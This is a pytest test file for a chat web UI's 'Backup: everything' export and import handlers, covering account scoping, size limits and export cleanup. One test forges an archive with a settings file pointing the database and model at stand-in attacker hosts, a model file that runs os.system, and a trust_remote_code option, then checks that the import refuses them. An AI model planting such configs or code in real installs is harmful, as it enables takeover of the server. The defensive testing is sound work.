"""The sidebar's "Backup: everything" handlers (webui/ui/backup.py), called directly: what the web UI
exports and imports without accounts (everything but settings.yaml and models on import) and with them
(the account's own, no settings files), the page's smaller import limits, and that exports do not pile up."""

from __future__ import annotations

import hashlib
import json
import os
import random
import zipfile
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest

from tests.support.ui_context import ui_context, user
from webui.archive.data import DataDir
from webui.archive.restore import import_archive
from webui.chat.character import Character
from webui.ui import backup
from webui.ui.session import acting_user_name


@pytest.fixture(autouse=True)
def gradio_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Gradio's cache folder, where the page's exports are written: this test's own."""
    folder = tmp_path / "gradio-cache"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(folder))
    yield folder


def archive_names(update: dict) -> set[str]:
    with zipfile.ZipFile(update["value"]) as zf:
        return set(zf.namelist())


def test_without_accounts_everything_goes_out_and_comes_back(tmp_path: Path, fake_backend: None) -> None:
    with ui_context(tmp_path / "a") as ctx:
        conv = ctx.repo.create_conversation("Trip", "Assistant")
        ctx.repo.add_message(conv.id, "user", "pack the tent")
        ctx.personas.save("Robin", "A gardener.")
        ctx.characters.save(Character(name="Mira", description="Keeps the greenhouse."))
        (ctx.settings.data_dir / "settings.yaml").write_text("user_name: Robin\n")
        update = backup.export_everything(ctx, None)
    assert update["visible"] and Path(update["value"]).name.startswith("webui-backup-")
    assert {"chats/000001.json", "personas.json", "characters/Mira.yaml", "settings.yaml"} <= archive_names(update)

    with ui_context(tmp_path / "b") as ctx:
        assert backup.import_everything(ctx, None, None) == [gr.update()] * 5 + [None]  # the box was cleared
        chats, characters, personas, templates, status, box = backup.import_everything(ctx, update["value"], None)
        assert [title for title, _ in chats["choices"]] == ["Trip"] and box is None
        assert "Mira" in characters["choices"] and "Robin" in personas["choices"] and templates["choices"]
        assert status.startswith("- Imported 1 chats and 1 personas;")
        assert "Not imported here: settings.yaml" in status  # the page never writes settings.yaml
        assert not (ctx.settings.data_dir / "settings.yaml").exists()
        assert ctx.characters.get("Mira").description == "Keeps the greenhouse."
        (tmp_path / "notes.zip").write_text("user_name: Robin\n")
        with pytest.raises(gr.Error, match="not a zip archive"):
            backup.import_everything(ctx, str(tmp_path / "notes.zip"), None)


def test_with_accounts_an_account_gets_only_its_own_and_no_settings_files(tmp_path: Path, fake_backend: None) -> None:
    with ui_context(tmp_path / "a", auth=["alice:pw", "bob:pw"]) as ctx:
        for name in ("alice", "bob"):
            uid = ctx.repo.ensure_user(name)
            ctx.repo.add_message(ctx.repo.create_conversation(f"{name}'s chat", "Assistant", uid).id, "user", "hi", uid)
            ctx.personas.save(f"{name} persona", "", None, uid)
        (ctx.settings.data_dir / "settings.yaml").write_text("user_name: Admin\n")
        with pytest.raises(gr.Error, match="Log in first"):
            backup.export_everything(ctx, None)
        update = backup.export_everything(ctx, user("alice"))
        with zipfile.ZipFile(update["value"]) as zf:
            manifest = json.loads(zf.read("manifest.json"))
            chat = json.loads(zf.read("chats/000001.json"))
        assert manifest["users"] == ["alice"] and manifest["counts"]["chats"] == 1 and chat["title"] == "alice's chat"
        assert "settings.yaml" not in archive_names(update)
        assert json.loads(zf_read(update["value"], "personas.json")) == [
            {"owner": "alice", "name": "alice persona", "description": "", "avatar": None}]

    # a full archive (with settings.yaml) imported by bob: his account gets the chats, the settings file is left
    full = tmp_path / "full"
    with ui_context(full) as ctx:
        ctx.repo.add_message(ctx.repo.create_conversation("Shared", "Assistant").id, "user", "x")
        (ctx.settings.data_dir / "settings.yaml").write_text("user_name: Someone\n")
        archive = backup.export_everything(ctx, None)["value"]
    with ui_context(tmp_path / "c", auth=["bob:pw"]) as ctx:
        chats, *_rest, status, _box = backup.import_everything(ctx, archive, user("bob"))
        assert [title for title, _ in chats["choices"]] == ["Shared"]
        assert [c.title for c in ctx.repo.list_conversations(None)] == []  # not in the anonymous history
        assert "Not imported here: settings.yaml" in status and not (ctx.settings.data_dir / "settings.yaml").exists()


def test_a_browsers_private_history_goes_out_without_an_owner(tmp_path: Path, fake_backend: None) -> None:
    """Reachable without accounts (a Space, --listen): each browser's own history, exported without
    its users row (meaningless elsewhere), and without the server's settings files."""
    tab = SimpleNamespace(username=None, session_hash="tab-1", cookies={})
    with ui_context(tmp_path / "space", listen=True) as ctx:
        uid = ctx.repo.ensure_user(acting_user_name(ctx, tab))  # the browser's row, as its first save makes it
        ctx.repo.add_message(ctx.repo.create_conversation("Mine", "Assistant", uid).id, "user", "hi", uid)
        ctx.repo.create_conversation("Another browser's", "Assistant", ctx.repo.ensure_user("browser:other"))
        ctx.repo.create_conversation("Local history", "Assistant")
        (ctx.settings.data_dir / "settings.yaml").write_text("user_name: Space\n")
        update = backup.export_everything(ctx, tab)
    with zipfile.ZipFile(update["value"]) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        chat = json.loads(zf.read("chats/000001.json"))
    assert manifest["users"] == [None] and manifest["accounts"] == [] and manifest["counts"]["chats"] == 1
    assert (chat["title"], chat["owner"]) == ("Mine", None)
    assert "settings.yaml" not in archive_names(update) and manifest["counts"]["settings_files"] == 0


def test_a_browser_that_saved_nothing_exports_an_empty_archive(tmp_path: Path, fake_backend: None) -> None:
    """A visitor who has only looked has no users row (none is made just to look): their export holds
    nobody's chats, not an error and not anybody else's."""
    tab = SimpleNamespace(username=None, session_hash="tab-new", cookies={})
    with ui_context(tmp_path / "space", listen=True) as ctx:
        ctx.repo.create_conversation("Another browser's", "Assistant", ctx.repo.ensure_user("browser:other"))
        ctx.repo.create_conversation("Local history", "Assistant")
        update = backup.export_everything(ctx, tab)
        assert ctx.repo.find_user(acting_user_name(ctx, tab)) is None  # exporting made no row either
    with zipfile.ZipFile(update["value"]) as zf:
        manifest = json.loads(zf.read("manifest.json"))
    assert manifest["counts"]["chats"] == 0 and manifest["counts"]["personas"] == 0
    assert not any(name.startswith("chats/") for name in archive_names(update))


def zf_read(path: str, name: str) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name)


def forged(path: Path, members: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> str:
    """A zip of ``members`` with a manifest that lists them correctly."""
    files = {n: {"size": len(d), "sha256": hashlib.sha256(d).hexdigest()} for n, d in members.items()}
    with zipfile.ZipFile(path, "w", compression=compress) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        zf.writestr("manifest.json", json.dumps({"format": "webui-archive", "version": 1, "files": files}))
    return str(path)


CHAT = json.dumps({"format": "webui-chat", "title": "t", "messages": [{"role": "user", "versions": ["x"]}]}).encode()


def test_the_page_never_imports_settings_yaml_or_models_even_locally(tmp_path: Path, fake_backend: None) -> None:
    archive = forged(tmp_path / "evil.zip", {
        "chats/000001.json": CHAT,
        "settings.yaml": b"database_url: postgresql://evil@attacker/db\nlisten: true\nmodel: http://attacker.example/v1\n",
        "models/evil/modeling_evil.py": b"import os\nos.system('touch /tmp/pwned')\n",
        "model-settings.json": json.dumps(
            {"/m/evil": {"loader": "transformers", "options": {"trust_remote_code": True, "dtype": "auto"}}}).encode(),
    })
    with ui_context(tmp_path / "local") as ctx:  # loopback, no accounts: the page acts for the whole install
        *_lists, status, _box = backup.import_everything(ctx, archive, None)
        data_dir = ctx.settings.data_dir
        assert [c.title for c in ctx.repo.list_conversations(None)] == ["t"]
        assert not (data_dir / "settings.yaml").exists() and not ctx.settings.models_path.exists()
        assert "Not imported here: settings.yaml, models/ (1 model files)." in status
        saved = json.loads((data_dir / "model-settings.json").read_text())
        assert saved == {"/m/evil": {"loader": "transformers", "options": {"dtype": "auto"}}}
        assert "Left out for safety" in status and "trust_remote_code" in status


def test_the_page_accepts_a_much_smaller_archive_than_the_command_line(tmp_path: Path, fake_backend: None) -> None:
    big = random.Random(1).randbytes(33 * 2**20)  # incompressible: only the size limit refuses it
    archive = forged(tmp_path / "big.zip", {"chats/000001.json": CHAT, "characters/big.png": big},
                     compress=zipfile.ZIP_STORED)
    with ui_context(tmp_path / "page") as ctx:
        with pytest.raises(gr.Error, match="more than the 32 MiB allowed from the web page"):
            backup.import_everything(ctx, archive, None)
        assert ctx.repo.list_conversations(None) == [] and not (ctx.settings.data_dir / "characters/big.png").exists()
        cli = DataDir(tmp_path / "cli", tmp_path / "cli" / "models", ctx.repo, ctx.personas)
        (tmp_path / "cli").mkdir()
        assert import_archive(Path(archive), cli).chats == 1  # the command line's limits take it
        assert (tmp_path / "cli" / "characters" / "big.png").read_bytes() == big


def exports(cache: Path) -> list[Path]:
    return sorted((cache / backup.EXPORTS).rglob("*.zip"))


def test_repeated_exports_do_not_pile_up(tmp_path: Path, fake_backend: None, gradio_cache: Path) -> None:
    with ui_context(tmp_path / "a", auth=["alice:pw", "bob:pw"]) as ctx:
        for name in ("alice", "bob"):
            ctx.repo.ensure_user(name)
        paths = [backup.export_everything(ctx, user("alice"))["value"] for _ in range(3)]
        assert len(set(paths)) == 3 and exports(gradio_cache) == [Path(paths[-1])]  # only the newest is left
        assert Path(paths[-1]).is_relative_to(gradio_cache)  # in Gradio's cache: served without another copy
        bob = backup.export_everything(ctx, user("bob"))["value"]
        assert exports(gradio_cache) == sorted([Path(paths[-1]), Path(bob)])  # another user's is not touched
        hour_ago = Path(paths[-1]).stat().st_mtime - backup.KEEP_EXPORTS_S - 60
        os.utime(Path(paths[-1]).parent, (hour_ago, hour_ago))  # alice's, left for an hour: stale
        bob = backup.export_everything(ctx, user("bob"))["value"]
        assert exports(gradio_cache) == [Path(bob)]
